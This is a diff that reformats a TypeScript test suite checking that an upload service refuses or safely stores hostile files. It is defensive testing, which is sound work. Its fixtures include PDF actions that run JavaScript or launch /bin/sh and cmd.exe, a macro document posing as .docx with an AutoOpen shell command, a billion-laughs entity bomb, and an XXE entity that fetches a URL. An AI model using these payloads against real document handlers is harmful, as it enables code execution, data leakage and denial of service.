@@ -40,7 +40,12 @@ describe('hostile archives and documents', () => {
 
   async function expectArchiveRefused(name: string, bytes: Buffer) {
     const { reply, kept } = await attempt(name, bytes);
-    expect({ status: reply.status, code: reply.json?.code, message: reply.json?.message, metadata: reply.json?.metadata }).toMatchObject({
+    expect({
+      status: reply.status,
+      code: reply.json?.code,
+      message: reply.json?.message,
+      metadata: reply.json?.metadata,
+    }).toMatchObject({
       status: 422,
       code: 'CORRUPT_FILE',
       message: expect.stringMatching(/^The (archive is refused|ZIP structure is damaged)/),
@@ -78,7 +83,10 @@ describe('hostile archives and documents', () => {
 
     it('a ZIP whose first entry claims data running over the next entry (overlap at distinct offsets) → 422', async () => {
       const data = Buffer.alloc(200, 0x61);
-      const zip = makeZip([{ name: 'a.txt', data }, { name: 'b.txt', data }]);
+      const zip = makeZip([
+        { name: 'a.txt', data },
+        { name: 'b.txt', data },
+      ]);
       const central = zip.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]));
       zip.writeUInt32LE(zip.length, central + 20); // compressed size: everything to the end
       zip.writeUInt32LE(zip.length, central + 24);
@@ -97,9 +105,20 @@ describe('hostile archives and documents', () => {
   describe('PDFs with actions: kept as documents, served only as attachments', () => {
     const port = () => trap.ports[0];
     it.each([
-      ['JavaScript in OpenAction and a page-open URI action', () => `<< /S /JavaScript /JS (app.alert\\('pwned'\\); this.submitForm\\('http://127.0.0.1:${port()}/js'\\);) /Next << /S /URI /URI (http://127.0.0.1:${port()}/uri) >> >>`],
-      ['a Launch action', () => '<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc.exe) >> /NewWindow true >>'],
-      ['a GoToR action to a remote PDF', () => `<< /S /GoToR /F << /Type /Filespec /FS /URL /F (http://127.0.0.1:${port()}/remote.pdf) >> /D [0 /Fit] >>`],
+      [
+        'JavaScript in OpenAction and a page-open URI action',
+        () =>
+          `<< /S /JavaScript /JS (app.alert\\('pwned'\\); this.submitForm\\('http://127.0.0.1:${port()}/js'\\);) /Next << /S /URI /URI (http://127.0.0.1:${port()}/uri) >> >>`,
+      ],
+      [
+        'a Launch action',
+        () => '<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc.exe) >> /NewWindow true >>',
+      ],
+      [
+        'a GoToR action to a remote PDF',
+        () =>
+          `<< /S /GoToR /F << /Type /Filespec /FS /URL /F (http://127.0.0.1:${port()}/remote.pdf) >> /D [0 /Fit] >>`,
+      ],
     ])('a PDF with %s', async (_label, action) => {
       const bytes = pdfWithOpenAction(action());
       const { reply, kept } = await attempt('invoice.pdf', bytes);
@@ -126,32 +145,58 @@ describe('hostile archives and documents', () => {
       docx({
         mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml',
         body: '<w:p><w:r><w:t>Enable content to see this invoice</w:t></w:r></w:p>',
-        rels: ['<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'],
+        rels: [
+          '<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>',
+        ],
         first,
-        extra: [{ name: 'word/vbaProject.bin', data: Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.from('Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\nShell "sh -c id"\r\nEnd Sub\r\n')]) }],
+        extra: [
+          {
+            name: 'word/vbaProject.bin',
+            data: Buffer.concat([
+              Buffer.from('d0cf11e0a1b11ae1', 'hex'),
+              Buffer.from('Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\nShell "sh -c id"\r\nEnd Sub\r\n'),
+            ]),
+          },
+        ],
         types: ['<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'],
       });
 
     it.each([
       ['with [Content_Types].xml first', () => docm()],
       // The sniffer sees the first chunks of the body (at least 4100 bytes): here they hold only a picture.
-      ['with a 1 MB picture stored before [Content_Types].xml', () => docm([{ name: 'word/media/image1.png', data: Buffer.alloc(MB, 0x89) }])],
+      [
+        'with a 1 MB picture stored before [Content_Types].xml',
+        () => docm([{ name: 'word/media/image1.png', data: Buffer.alloc(MB, 0x89) }]),
+      ],
     ])('a macro-enabled document named .docx %s → 415 (or 422), not stored', async (_label, bytes) => {
       const { reply, kept } = await attempt('invoice.docx', bytes());
-      expect([[415, 'UNSUPPORTED_MEDIA_TYPE'], [422, 'CORRUPT_FILE'], [422, 'CONTENT_REJECTED']]).toContainEqual([reply.status, reply.json?.code]);
+      expect([
+        [415, 'UNSUPPORTED_MEDIA_TYPE'],
+        [422, 'CORRUPT_FILE'],
+        [422, 'CONTENT_REJECTED'],
+      ]).toContainEqual([reply.status, reply.json?.code]);
       await expectUnharmed(t, { ...kept, refused: true });
     });
 
     it('a DOCX whose document.xml is a billion-laughs entity bomb → 422, fast', async () => {
-      const entities = ['<!ENTITY lol0 "lol">', ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`)].join('');
-      const bomb = docx({ doctype: `<!DOCTYPE w:document [${entities}]>`, body: '<w:p><w:r><w:t>&lol9;</w:t></w:r></w:p>' });
+      const entities = [
+        '<!ENTITY lol0 "lol">',
+        ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`),
+      ].join('');
+      const bomb = docx({
+        doctype: `<!DOCTYPE w:document [${entities}]>`,
+        body: '<w:p><w:r><w:t>&lol9;</w:t></w:r></w:p>',
+      });
       const { reply, kept } = await attempt('laughs.docx', bomb);
       expect([reply.status, reply.json?.code]).toEqual([422, 'CORRUPT_FILE']);
       await expectUnharmed(t, { ...kept, refused: true });
     });
 
     it('a DOCX with an external entity (XXE) naming a URL: refused or rendered, the URL never fetched', async () => {
-      const xxe = docx({ doctype: `<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "http://127.0.0.1:${trap.ports[1]}/xxe">]>`, body: '<w:p><w:r><w:t>&xxe;</w:t></w:r></w:p>' });
+      const xxe = docx({
+        doctype: `<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "http://127.0.0.1:${trap.ports[1]}/xxe">]>`,
+        body: '<w:p><w:r><w:t>&xxe;</w:t></w:r></w:p>',
+      });
       const { reply, kept } = await attempt('xxe.docx', xxe);
       expect([201, 422]).toContain(reply.status);
       await expectUnharmed(t, { ...kept, refused: reply.status !== 201 });
@@ -162,7 +207,9 @@ describe('hostile archives and documents', () => {
     it('a DOCX showing a picture linked by URL: accepted, and the renderer never fetches it', async () => {
       const linked = docx({
         body: linkedPicture('rId5'),
-        rels: [`<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="http://127.0.0.1:${trap.ports[2]}/linked.png" TargetMode="External"/>`],
+        rels: [
+          `<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="http://127.0.0.1:${trap.ports[2]}/linked.png" TargetMode="External"/>`,
+        ],
       });
       const { reply, kept } = await attempt('linked.docx', linked);
       expect([201, 422]).toContain(reply.status);
@@ -210,8 +257,17 @@ const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
 const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
 
 /** A minimal WordprocessingML package (ECMA-376 Part 2): content types, package relationships, the main part and its relationships. */
-function docx(options: { body: string; mainType?: string; doctype?: string; rels?: string[]; types?: string[]; first?: ZipSpec[]; extra?: ZipSpec[] }): Buffer {
-  const mainType = options.mainType ?? 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
+function docx(options: {
+  body: string;
+  mainType?: string;
+  doctype?: string;
+  rels?: string[];
+  types?: string[];
+  first?: ZipSpec[];
+  extra?: ZipSpec[];
+}): Buffer {
+  const mainType =
+    options.mainType ?? 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
   const types =
     `${XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
     '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>' +
